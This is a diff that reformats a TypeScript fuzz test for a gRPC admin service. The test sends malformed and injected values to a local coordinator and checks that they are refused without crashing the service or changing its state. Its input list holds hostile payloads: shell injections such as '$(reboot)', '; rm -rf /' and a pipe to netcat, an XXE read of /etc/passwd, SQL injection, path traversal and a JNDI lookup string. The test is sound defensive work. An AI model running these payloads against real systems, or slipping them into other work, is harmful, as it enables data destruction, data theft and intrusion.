@@ -29,12 +29,34 @@ interface MethodDesc {
 }
 
 function methods(): MethodDesc[] {
-  const svc = adminPackageDefinition()[SERVICE] as unknown as Record<string, { path: string; responseStream: boolean; requestType: { type: { field: FieldDesc[] } } }>;
+  const svc = adminPackageDefinition()[SERVICE] as unknown as Record<
+    string,
+    { path: string; responseStream: boolean; requestType: { type: { field: FieldDesc[] } } }
+  >;
   return Object.entries(svc).map(([name, m]) => ({ name, path: m.path, responseStream: m.responseStream, fields: m.requestType.type.field }));
 }
 
 const ID_FIELDS = new Set(['host_id', 'zone_id', 'operation_id', 'server_uuid']);
-const METACHARS = ['$(reboot)', '`id`', '; rm -rf /', '| nc 1.2.3.4 9', '&& true', '<x>&amp;</x>', "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><a>&e;</a>", "' OR 1=1 --", '../../etc/passwd', 'a\u0000b', 'line\nbreak', '%s%n%x', '${jndi:ldap://x}', '*', '>', 'sim-1 ', ' sim-1', 'SIM-1'];
+const METACHARS = [
+  '$(reboot)',
+  '`id`',
+  '; rm -rf /',
+  '| nc 1.2.3.4 9',
+  '&& true',
+  '<x>&amp;</x>',
+  "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><a>&e;</a>",
+  "' OR 1=1 --",
+  '../../etc/passwd',
+  'a\u0000b',
+  'line\nbreak',
+  '%s%n%x',
+  '${jndi:ldap://x}',
+  '*',
+  '>',
+  'sim-1 ',
+  ' sim-1',
+  'SIM-1',
+];
 
 // ------------------------------------------------------------------ wire bytes
 
@@ -76,7 +98,8 @@ function rawRequest(m: MethodDesc, r: () => number): [string, Buffer] {
   const idf = m.fields.find((x) => ID_FIELDS.has(x.name) && x.type === 'TYPE_STRING') ?? f;
   const parts: number[] = [];
   // The last copy is malformed, so even CreateZone (where an unknown id is a valid new zone) must refuse it.
-  for (let i = 0; i < 200; i++) parts.push(...(isStringy(idf) ? lenDelimited(idf.number, Buffer.from(i === 199 ? '$(reboot)' : `x${i}`)) : [...tag(idf.number, 0), ...varint(i)]));
+  for (let i = 0; i < 200; i++)
+    parts.push(...(isStringy(idf) ? lenDelimited(idf.number, Buffer.from(i === 199 ? '$(reboot)' : `x${i}`)) : [...tag(idf.number, 0), ...varint(i)]));
   return ['repeated-field', Buffer.from(parts)];
 }
 
@@ -115,7 +138,17 @@ interface Case {
   expect: number[];
 }
 
-const MUTATING = new Set(['CreateZone', 'UpdateZone', 'UpdateHost', 'UpdateServer', 'EnableMaintenance', 'DisableMaintenance', 'ReturnServers', 'CancelOperation', 'RecomputeZoneCpu']);
+const MUTATING = new Set([
+  'CreateZone',
+  'UpdateZone',
+  'UpdateHost',
+  'UpdateServer',
+  'EnableMaintenance',
+  'DisableMaintenance',
+  'ReturnServers',
+  'CancelOperation',
+  'RecomputeZoneCpu',
+]);
 
 /** Valid calls that the world's state must refuse (nothing is in maintenance, nothing runs). */
 function wrongState(ms: Map<string, MethodDesc>, r: () => number): Case {
@@ -138,7 +171,14 @@ function wrongState(ms: Map<string, MethodDesc>, r: () => number): Case {
 function makeCase(all: MethodDesc[], ms: Map<string, MethodDesc>, r: () => number): Case {
   const x = r();
   const m = all[Math.floor(r() * all.length)]!;
-  if (x < 0.03) return { kind: r() < 0.5 ? 'no-credentials' : 'bad-token', method: m, req: {}, auth: r() < 0.5 ? 'none' : 'bad', expect: [S.UNAUTHENTICATED, S.RESOURCE_EXHAUSTED] };
+  if (x < 0.03)
+    return {
+      kind: r() < 0.5 ? 'no-credentials' : 'bad-token',
+      method: m,
+      req: {},
+      auth: r() < 0.5 ? 'none' : 'bad',
+      expect: [S.UNAUTHENTICATED, S.RESOURCE_EXHAUSTED],
+    };
   if (x < 0.2) return wrongState(ms, r);
   if (x < 0.45) {
     const [kind, raw] = rawRequest(m, r);
@@ -152,7 +192,9 @@ function makeCase(all: MethodDesc[], ms: Map<string, MethodDesc>, r: () => numbe
   const req: Record<string, unknown> = {};
   for (const f of m.fields) if (r() < 0.7 || ID_FIELDS.has(f.name)) req[f.name] = badValue(f, r, kind);
   // A mutating call must be refused: its target never exists (ids are unknown or malformed).
-  const expect = MUTATING.has(m.name) ? [S.INVALID_ARGUMENT, S.NOT_FOUND, S.RESOURCE_EXHAUSTED, S.FAILED_PRECONDITION] : [S.OK, S.INVALID_ARGUMENT, S.NOT_FOUND, S.RESOURCE_EXHAUSTED];
+  const expect = MUTATING.has(m.name)
+    ? [S.INVALID_ARGUMENT, S.NOT_FOUND, S.RESOURCE_EXHAUSTED, S.FAILED_PRECONDITION]
+    : [S.OK, S.INVALID_ARGUMENT, S.NOT_FOUND, S.RESOURCE_EXHAUSTED];
   return { kind, method: m, req, auth: 'token', expect };
 }
 
@@ -230,10 +272,22 @@ export async function runAdminFuzz(ctx: TrialContext): Promise<TrialResult> {
   const ms = new Map(all.map((m) => [m.name, m]));
   const rawClient = new (grpc.makeGenericClientConstructor(
     Object.fromEntries(
-      all.map((m) => [m.name, { path: m.path, requestStream: false, responseStream: m.responseStream, requestSerialize: (b: Buffer) => b, requestDeserialize: (b: Buffer) => b, responseSerialize: (b: Buffer) => b, responseDeserialize: (b: Buffer) => b }]),
+      all.map((m) => [
+        m.name,
+        {
+          path: m.path,
+          requestStream: false,
+          responseStream: m.responseStream,
+          requestSerialize: (b: Buffer) => b,
+          requestDeserialize: (b: Buffer) => b,
+          responseSerialize: (b: Buffer) => b,
+          responseDeserialize: (b: Buffer) => b,
+        },
+      ]),
     ),
     'RawAdmin',
-  ))(`127.0.0.1:${coordinator.proc.port}`, grpc.credentials.createInsecure(), { 'grpc.max_send_message_length': -1 }) as unknown as grpc.Client & Record<string, Function>;
+  ))(`127.0.0.1:${coordinator.proc.port}`, grpc.credentials.createInsecure(), { 'grpc.max_send_message_length': -1 }) as unknown as grpc.Client &
+    Record<string, Function>;
   try {
     // Quiet: no drain, nothing pending; agents keep heartbeating. Keys that change on their own in a quiet
     // minute would make the comparison lie, so the baseline is taken twice and such keys are named.
@@ -280,13 +334,22 @@ export async function runAdminFuzz(ctx: TrialContext): Promise<TrialResult> {
         codes.set(key, (codes.get(key) ?? 0) + 1);
         if (!c.expect.includes(code)) {
           const k = `${c.kind} ${c.method.name} → ${grpc.status[code] ?? code}`;
-          if (!wrong.has(k)) violations.push({ invariant: 'wrong-code', detail: `${c.kind} ${c.method.name}(${c.raw ? `0x${c.raw.subarray(0, 24).toString('hex')}` : JSON.stringify(c.req).slice(0, 160)}) answered ${grpc.status[code] ?? code}, expected one of ${c.expect.map((e) => grpc.status[e]).join('/')}` });
+          if (!wrong.has(k))
+            violations.push({
+              invariant: 'wrong-code',
+              detail: `${c.kind} ${c.method.name}(${c.raw ? `0x${c.raw.subarray(0, 24).toString('hex')}` : JSON.stringify(c.req).slice(0, 160)}) answered ${grpc.status[code] ?? code}, expected one of ${c.expect.map((e) => grpc.status[e]).join('/')}`,
+            });
           wrong.set(k, (wrong.get(k) ?? 0) + 1);
         }
       }
     };
     await Promise.all(Array.from({ length: 8 }, worker));
-    const alive = !coordinator.proc.exited && (await coordinator.call('ListHosts', {}).then(() => true, () => false));
+    const alive =
+      !coordinator.proc.exited &&
+      (await coordinator.call('ListHosts', {}).then(
+        () => true,
+        () => false,
+      ));
     if (!alive) violations.push({ invariant: 'crash', detail: `the coordinator ${coordinator.proc.exited ? 'exited' : 'stopped answering'} during the fuzz` });
     const after = await kvSnapshot(w);
     const changed = diff(before, after);
@@ -308,7 +371,9 @@ export async function runAdminFuzz(ctx: TrialContext): Promise<TrialResult> {
       'a truncated request (a length prefix of 1000 followed by 2 bytes) is not refused: protobufjs (under @grpc/proto-loader) decodes the field as the bytes present, so `0a e807 6162` is CreateZone{zone_id: "ab"} and created zone "ab" in an earlier version of this fuzz. No privilege is gained (the caller could send that call well-formed), but a damaged message is not told apart from a valid one; the fuzz now sends truncated malformed ids, which are refused.',
     ];
     if (internal)
-      findings.push(`${internal} undecodable request(s) (random bytes, truncated or wrong wire types) were answered INTERNAL: grpc-js refuses bytes it cannot deserialize before any handler runs, with INTERNAL rather than INVALID_ARGUMENT. Nothing changed and the coordinator kept serving; the code is grpc-js's.`);
+      findings.push(
+        `${internal} undecodable request(s) (random bytes, truncated or wrong wire types) were answered INTERNAL: grpc-js refuses bytes it cannot deserialize before any handler runs, with INTERNAL rather than INVALID_ARGUMENT. Nothing changed and the coordinator kept serving; the code is grpc-js's.`,
+      );
     return { outcome: alive ? 'clean' : 'crashed', violations, lost: 0, recoveryMs: null, durationMs: Date.now() - t0, notes, findings };
   } catch (err) {
     throw new Error(`admin fuzz: ${errorMessage(err)}`);
